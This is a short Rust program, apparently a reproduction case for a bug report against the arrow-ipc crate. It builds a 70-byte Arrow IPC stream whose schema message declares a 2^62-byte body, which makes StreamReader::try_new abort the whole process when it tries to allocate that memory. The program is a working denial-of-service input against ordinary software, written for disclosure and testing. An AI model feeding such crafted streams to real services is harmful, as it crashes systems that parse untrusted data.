//! `StreamReader::try_new` allocates the body a schema message declares before reading it:
//! a 70-byte input declaring a body of 2^62 bytes aborts the process ("memory allocation of
//! 4611686018427387904 bytes failed"), which `catch_unwind` cannot stop.

use std::io::Cursor;

use arrow_ipc::reader::StreamReader;
use arrow_ipc::{MessageBuilder, MessageHeader, MetadataVersion};
use arrow_ipc_59_repro::{frame, schema};
use flatbuffers::FlatBufferBuilder;

fn main() {
    let mut fbb = FlatBufferBuilder::new();
    let fb_schema = arrow_ipc::convert::schema_to_fb_offset(&mut fbb, &schema());
    let mut message = MessageBuilder::new(&mut fbb);
    message.add_version(MetadataVersion::V5);
    message.add_header_type(MessageHeader::Schema);
    message.add_header(fb_schema.as_union_value());
    message.add_bodyLength(1 << 62);
    let message = message.finish();
    fbb.finish(message, None);
    let bytes = frame(fbb.finished_data());
    println!("{} bytes; reading them aborts:", bytes.len());
    let read = std::panic::catch_unwind(|| StreamReader::try_new(Cursor::new(bytes), None).is_ok());
    println!("not reached on arrow-ipc 59.3.2: {read:?}");
}
